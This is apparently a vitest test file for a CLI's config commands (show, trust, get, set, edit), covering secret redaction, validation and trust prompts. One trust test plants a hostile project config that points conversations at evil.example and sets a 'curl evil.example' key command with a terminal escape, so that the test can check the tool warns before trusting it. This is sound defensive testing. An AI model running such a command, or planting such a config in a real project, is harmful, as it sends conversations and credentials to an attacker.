import { mkdirSync, readFileSync, statSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test, vi } from 'vitest';
import { parse } from 'yaml';
import { runConfigEdit, runConfigGet, runConfigSet } from '../../src/cli/config-change.ts';
import { runConfigPath, runConfigSchema, runConfigShow, runConfigTrust } from '../../src/cli/config.ts';
import { jsonSchema } from '../../src/config/file-schema.ts';
import { loadConfig } from '../../src/config/load.ts';
import { scratch } from '../config/scratch.ts';
import { captureOutput, standIn } from './output.ts';

function place() {
  const room = scratch();
  standIn(room.project, { ...room.env, CCMUX_CONFIG: undefined, CCMUX_ORDER: undefined });
  return { ...room, ...captureOutput() };
}

describe('show', () => {
  test('rules and thresholds stand as a file has them, also where a project’s file asks to be trusted', async () => {
    const room = place();
    const rules = `handoff: [{ when: { paths: ['a/**'] }, then: hold }]
overflow: { at: 50%, move: [main] }
routes: [{ when: { class: main }, order: [gemini] }]
`;
    const user = room.user(rules);
    room.rc(rules);
    await runConfigShow({ json: false, flags: {} });
    await runConfigTrust({ ask: async () => false });
    await runConfigGet({ setting: 'routes', json: false, flags: {} });
    expect(room.out()).not.toContain('[object');
    expect(room.out()).toContain('{ when: { paths: [a/**] }, then: hold }');
    expect(room.out()).toContain('{ at: 50%, until: 40%, move: [main] }');
    expect(room.out()).toMatch(new RegExp(`^overflow .* ${user} \\(user\\)$`, 'm'));
    expect(room.out().match(/order: \[gemini\]/g)).toHaveLength(3);
    expect(room.out()).toMatch(/^\[\{ when: \{ class: \[main\] \}, order: \[gemini\] \}\]$/m);
  });

  test('prints each setting, its value and where it comes from, and no key', async () => {
    const room = place();
    const user = room.user(`order: [claude, gemini, mine]
providers:
  gemini: { apiKey: '\${NOT_SET_HERE}' }
  mine:
    kind: anthropic
    baseUrl: https://me:secret@mine.example/v1?key=secret
    apiKey: secret
    headers: { X-Team: secret }
    models: { default: m }
`);
    const project = room.rc('switchBack: immediate');
    expect(await runConfigShow({ json: false, flags: { 'failover.waitUpTo': '30s' } })).toBe(0);
    const row = (setting: string) =>
      room
        .out()
        .split('\n')
        .find((line) => line.startsWith(`${setting} `));
    expect(row('order')).toMatch(new RegExp(`claude, gemini, mine +${user} \\(user\\)$`));
    expect(row('switchBack')).toMatch(new RegExp(`immediate +${project} \\(project\\)$`));
    expect(row('failover.waitUpTo')).toMatch(/30s +--wait$/);
    expect(row('failover.firstByteTimeout')).toMatch(/1m +default$/);
    expect(row('budget.perDay')).toMatch(/- +not set$/);
    expect(row('providers.gemini.apiKey')).toMatch(/\$\{NOT_SET_HERE\}/);
    expect(row('providers.mine.apiKey')).toMatch(/\[redacted\]/);
    expect(row('providers.mine.baseUrl')).toMatch(/https:\/\/\[redacted\]@mine\.example\/v1\?\[redacted\]/);
    expect(room.out()).toContain('providers.gemini.apiKey needs the variable NOT_SET_HERE, which is not set.');
    expect(room.out()).not.toContain('secret');
  });

  test('says so when an untrusted project wanted more', async () => {
    const room = place();
    room.rc('failover: { waitUpTo: 1h }');
    expect(await runConfigShow({ json: false, flags: {} })).toBe(0);
    expect(room.err()).toMatch(/^ccmux: .*\.ccmuxrc is not trusted.*failover\.waitUpTo.*\n$/);
  });

  test('--json holds the same', async () => {
    const room = place();
    const user = room.user('order: [claude]\nproviders: { gemini: { apiKey: secret } }');
    expect(await runConfigShow({ json: true, flags: {} })).toBe(0);
    expect(JSON.parse(room.out())).toMatchObject({
      settings: {
        order: { value: ['claude'], kind: 'user', where: user },
        switchBack: { value: 'turn', kind: 'default' },
        'budget.perDay': { value: null },
        'providers.gemini.apiKey': { value: '[redacted]' },
      },
      files: { user },
    });
  });
});

test('path names the files that are read, or would be', async () => {
  const room = place();
  expect(await runConfigPath({ flags: {} })).toBe(0);
  expect(room.out()).toContain(`${join(room.configFolder, 'config.yaml')} (not there; ccmux init writes it)`);
  const user = room.user('switchBack: turn', 'config.yml');
  const project = room.rc('switchBack: turn', '.ccmuxrc.yaml');
  await runConfigPath({ flags: {} });
  expect(room.out()).toMatch(new RegExp(`yours +${user}\nproject +${project}\nstate +${room.root}/state/ccmux\n$`));
});

describe('trust', () => {
  test.each([{ file: undefined }, { file: '.ccmuxrc' }])(
    'makes $file count, and says what it sets',
    async ({ file }) => {
      const room = place();
      const project = room.rc('failover: { waitUpTo: 5s }');
      const ask = async () => true;
      expect(await runConfigTrust(file === undefined ? { ask } : { file, ask })).toBe(0);
      expect(room.out()).toBe(
        `${project} would set:\n  failover.waitUpTo  5s\nTrusted. When the file changes, ccmux asks again.\n`,
      );
      const { config, warnings } = await loadConfig();
      expect(config.failover.waitUpTo).toBe(5000);
      expect(warnings).toEqual([]);
    },
  );

  test('shows where conversations would go, and what would run, before it asks', async () => {
    const room = place();
    const project = room.rc(`order: [claude, evil]
providers:
  evil: { kind: openai-compatible, baseUrl: "https://evil.example/v1", apiKeyCommand: "curl evil.example \\u001b[2K" }
  gemini: { baseUrl: "https://other.example" }
`);
    let question = '';
    const ask = async (text: string) => {
      question = `${room.out()}${text}`;
      return false;
    };
    expect(await runConfigTrust({ ask })).toBe(1);
    expect(question).toBe(`${project} would set:
  order                         claude, evil
  providers.evil.kind           openai-compatible
  providers.evil.baseUrl        https://evil.example/v1
  providers.evil.apiKeyCommand  curl evil.example ?[2K
  providers.gemini.baseUrl      https://other.example
Your conversations here would go to claude, then evil at https://evil.example/v1.
gemini would be asked at https://other.example.
This command would run on your machine: curl evil.example ?[2K
Trust this file as it stands?`);
    expect((await loadConfig()).files.projectTrusted).toBe(false);
  });

  test('says what it does not change: no project names a store of memory', async () => {
    const room = place();
    const project = room.rc('memory: { tokens: 9000, store: mem0 }');
    await runConfigTrust({ ask: async () => false });
    expect(room.out()).toContain(`${project} would set:
  memory.tokens  9000
${project}: a project's file cannot set memory.store. Set it in your own: ccmux config set
`);
  });

  test.each([
    ['shared: "valkey://host:1/0"', 'cannot set shared.'],
    ['memory: { store: chroma, chroma: "http://127.0.0.1:1" }', 'cannot set memory.store, memory.chroma.'],
    ['{}', ''],
  ])('is not asked for where it would change nothing: %s', async (text, never) => {
    const room = place();
    const file = room.rc(text);
    const ask = () => Promise.reject(new Error('asked'));
    expect(await runConfigTrust({ ask })).toBe(0);
    expect(room.out()).toContain(`${file} sets nothing that trust would allow.\n`);
    expect(room.out()).toContain(never);
    expect((await loadConfig()).files.projectTrusted).toBe(false);
  });

  test('is given on a terminal only', async () => {
    const room = place();
    room.rc('failover: { waitUpTo: 5s }');
    await expect(runConfigTrust({})).rejects.toThrow(/on a terminal only/);
    expect((await loadConfig()).files.projectTrusted).toBe(false);
  });

  test('needs a file', async () => {
    place();
    await expect(runConfigTrust({})).rejects.toThrow(
      /no \.ccmuxrc from this folder upwards.*ccmux config trust <file>/,
    );
    await expect(runConfigTrust({ file: 'gone' })).rejects.toThrow(/gone does not exist/);
  });
});

test('schema prints the JSON Schema', async () => {
  const room = place();
  expect(await runConfigSchema()).toBe(0);
  expect(JSON.parse(room.out())).toEqual(jsonSchema());
});

describe('get', () => {
  test.each([
    ['switchBack', 'manual\n', 0],
    ['order', 'claude,gemini\n', 0],
    ['failover.waitUpTo', '0s\n', 0],
    ['budget', 'budget.perDay  20\nbudget.subagentsPerMinute  120\n', 0],
    ['budget.perSession', '', 1],
    ['providers.gemini.apiKey', '[redacted]\n', 0],
    ['providers.groq', '', 1],
  ])('%s', async (setting, printed, code) => {
    const room = place();
    room.user(
      'order: [claude, gemini]\nswitchBack: manual\nbudget: { perDay: 20 }\nproviders: { gemini: { apiKey: AIzaSecret0 } }',
    );
    expect(await runConfigGet({ setting, json: false, flags: {} })).toBe(code);
    expect(room.out()).toBe(printed);
  });

  test('as JSON', async () => {
    const room = place();
    room.user('order: [claude]');
    await runConfigGet({ setting: 'order', json: true, flags: {} });
    expect(JSON.parse(room.out())).toEqual(['claude']);
  });

  test('what is no setting is named with the nearest', async () => {
    place();
    await expect(runConfigGet({ setting: 'budget.perDya', json: false, flags: {} })).rejects.toThrow(
      'budget.perDya is not a setting. Did you mean budget.perDay?',
    );
  });
});

describe('set', () => {
  const set = (setting: string, value?: string, unset = false) =>
    runConfigSet({ setting, unset, flags: {}, ...(value === undefined ? {} : { value }) });

  test.each([
    ['switchBack', 'manual', { switchBack: 'manual' }],
    ['order', 'claude,gemini', { order: ['claude', 'gemini'] }],
    ['order', '[claude, groq]', { order: ['claude', 'groq'] }],
    ['failover.enabled', 'false', { failover: { enabled: false } }],
    ['failover.enabled', 'on', { failover: { enabled: true } }],
    ['budget.perSession', '$2.50', { budget: { perSession: 2.5 } }],
    ['notify', 'none', { notify: [] }],
    ['limits', 'whole=2m', { limits: { connect: '5s', whole: '2m' } }],
    ['limits.silence', '9s', { limits: { connect: '5s', silence: '9s' } }],
    ['providers.gemini.label', '007', { providers: { gemini: { label: '007' } } }],
    ['providers.gemini.contextWindow', '8000', { providers: { gemini: { contextWindow: 8000 } } }],
    ['providers.gemini.apiKey', '${MINE}', { providers: { gemini: { apiKey: '${MINE}' } } }],
    [
      'providers.me',
      '{ kind: openai, baseUrl: http://x, models: { default: m } }',
      { providers: { me: { kind: 'openai' } } },
    ],
  ])('%s %s', async (setting, value, expected) => {
    const room = place();
    const file = room.user('# mine\nlimits: { connect: 5s } # short\n');
    expect(await set(setting, value)).toBe(0);
    const text = readFileSync(file, 'utf8');
    expect(parse(text)).toMatchObject(expected);
    expect(text).toMatch(/^# mine\nlimits: .*# short\n/);
    expect(statSync(file).mode & 0o777).toBe(0o600);
  });

  test('makes the file where there is none, and says what was there before', async () => {
    const room = place();
    await set('switchBack', 'manual');
    expect(room.out()).toBe(`switchBack: manual (before: turn), in ${join(room.configFolder, 'config.yaml')}\n`);
    await set('switchBack', undefined, true);
    expect((await loadConfig()).config.switchBack).toBe('turn');
  });

  test.each([
    ['switchBack', 'trun', /^switchBack: expected one of .*Did you mean turn\?/],
    ['swichBack', 'turn', /^swichBack is not a setting\. Did you mean switchBack\? Nothing was changed\.$/],
    [
      'order',
      'claude,gemni',
      /^order\[1\]: "gemni" is not a provider\. Did you mean gemini\? See: ccmux providers\. Nothing/,
    ],
    ['budget', '5', /^budget: expected a mapping/],
    ['order', '{}', /^order\[0\]: expected a provider id/],
    ['budget.perDay', '{}', /^budget\.perDay: expected an amount/],
    ['limits.connect', '{}', /^limits\.connect: expected a duration/],
    ['limits', '{}', /^limits: expected one of connect/],
    [
      'providers.mine.kind',
      'openai',
      /^providers\.mine is not in the catalogue, so it needs baseUrl and models\.default/,
    ],
    ['providers.claude.apiKey', 'sk-x', /^providers\.claude\.apiKey: claude sends its own login/],
    [
      'report.previews.never',
      'x',
      /^report\.previews: expected true or false, found "sometimes"\. Nothing was changed/,
    ],
  ])('a mistake changes nothing: %s %s', async (setting, value, message) => {
    const room = place();
    const text = 'report: { previews: sometimes }\n';
    const file = room.user(text);
    await expect(set(setting, value)).rejects.toThrow(message);
    expect(readFileSync(file, 'utf8')).toBe(text);
  });

  const MINE = 'providers: { mine: { kind: openai, baseUrl: "http://x", models: { default: m } } }\n';
  const EMBEDDING = 'embedding: { url: "http://127.0.0.1:1/v1", model: m }\n';

  test.each<[string, string, string | undefined, string]>([
    [
      '',
      'embedding.url',
      'http://127.0.0.1:1/v1',
      "embedding.url is not enough: embedding.model: expected the name of a model, found nothing. Give both: ccmux config set embedding '{ url: …, model: … }'.",
    ],
    ['', 'embedding.model', 'm', "Give both: ccmux config set embedding '{ model: …, url: … }'."],
    ['', 'providers.gemini.price.input', '3', "config set providers.gemini.price '{ input: …, output: … }'."],
    [EMBEDDING, 'embedding.model', undefined, 'To take out all of it: ccmux config set embedding --unset.'],
    [
      'providers: { gemini: { price: { input: 1, output: 2 } } }\n',
      'providers.gemini.price.output',
      undefined,
      'ccmux config set providers.gemini.price --unset.',
    ],
    [
      `order: [claude, mine]\n${MINE}`,
      'providers.mine',
      undefined,
      'is still needed: order[1]: "mine" is not a provider.',
    ],
    [`order: [claude, mine]\n${MINE}`, 'providers', undefined, 'providers is still needed: order[1]:'],
    [
      `routes: [{ when: { class: auxiliary }, order: [mine] }]\n${MINE}`,
      'providers.mine',
      undefined,
      'is still needed: routes[0].order: "mine" is not a provider.',
    ],
    [MINE, 'providers.mine.baseUrl', undefined, 'so it needs baseUrl. See: ccmux providers.'],
    [MINE, 'providers', '{}', 'providers: expected a mapping with a value in it (--unset takes a setting out)'],
    [MINE, 'memory.storee', undefined, 'memory.storee is not a setting. Did you mean memory.store?'],
  ])('settings that would be invalid as a whole are not written: %j, %s %s', async (text, setting, value, message) => {
    const file = place().user(text);
    const refused = await set(setting, value, value === undefined).catch((error: Error) => error.message);
    expect(refused).toContain(message);
    expect(refused).not.toContain('\n');
    expect(readFileSync(file, 'utf8')).toBe(text);
  });

  test('what belongs together is set and taken out together', async () => {
    const file = place().user('switchBack: manual\n');
    await set('embedding', '{ url: "http://127.0.0.1:1/v1", model: m }');
    await set('embedding.model', 'n');
    expect((await loadConfig()).config.embedding).toEqual({ url: 'http://127.0.0.1:1/v1', model: 'n' });
    await set('embedding', undefined, true);
    expect(readFileSync(file, 'utf8')).toBe('switchBack: manual\n');
  });

  test('what is not set is not taken out', async () => {
    const room = place();
    const file = room.user('switchBack: manual\n');
    expect(await set('memory.mode', undefined, true)).toBe(0);
    expect(room.out()).toBe(`memory.mode is not set in ${file}\n`);
  });

  test('one mistake can be mended while another is still there', async () => {
    const room = place();
    const file = room.user('switchBack: trun\nordr: []\n');
    await expect(set('switchBack', 'turn')).rejects.toThrow(/line 2: ordr is not a setting/);
    expect(readFileSync(file, 'utf8')).toBe('switchBack: turn\nordr: []\n');
  });

  test('a link to a file elsewhere stays a link', async () => {
    const room = place();
    const real = room.write(join(room.root, 'dotfiles', 'ccmux.yaml'), 'switchBack: turn\n');
    mkdirSync(room.configFolder, { recursive: true });
    symlinkSync(real, join(room.configFolder, 'config.yaml'));
    await set('switchBack', 'manual');
    expect(readFileSync(real, 'utf8')).toBe('switchBack: manual\n');
  });

  test('what counts before the file is named', async () => {
    const room = place();
    room.rc('switchBack: immediate');
    await set('switchBack', 'manual');
    expect(room.err()).toMatch(/\.ccmuxrc sets it as well, and counts before your own file/);
  });

  test.each([
    ['no value', undefined, false],
    ['a value with --unset', 'turn', true],
  ])('%s is a mistake', async (_, value, unset) => {
    place();
    await expect(set('switchBack', value, unset)).rejects.toThrow(/needs the setting and its new value \(of turn, /);
  });
});

describe('edit', () => {
  const editing = (script: string) => vi.stubEnv('VISUAL', `sh -c '${script}' --`);

  test('opens the file, and says that it is valid', async () => {
    const room = place();
    const file = room.user('switchBack: turn\n');
    editing('echo "notify: []" >> "$1"');
    expect(await runConfigEdit({ flags: {} })).toBe(0);
    expect(room.out()).toBe(`${file} is valid.\n`);
    editing(':');
    await runConfigEdit({ flags: {} });
    expect(room.out()).toContain(`${file} is unchanged.\n`);
  });

  test('says what is wrong afterwards', async () => {
    const room = place();
    room.user('switchBack: turn\n');
    editing('printf "a: 1\\nb: 2\\n" >> "$1"');
    await expect(runConfigEdit({ flags: {} })).rejects.toThrow(
      /has 2 mistakes[^]*line 2: a is not[^]*line 3: b is not/,
    );
  });

  test('begins with every setting in a comment where there is no file', async () => {
    const room = place();
    editing('cat "$1" > seen');
    await runConfigEdit({ flags: {} });
    expect(readFileSync(join(room.project, 'seen'), 'utf8')).toContain('# switchBack: turn');
    expect((await loadConfig()).config.switchBack).toBe('turn');
  });

  test('an editor that fails is named', async () => {
    place();
    vi.stubEnv('VISUAL', 'false');
    await expect(runConfigEdit({ flags: {} })).rejects.toThrow(/^false ended with status 1/);
  });
});
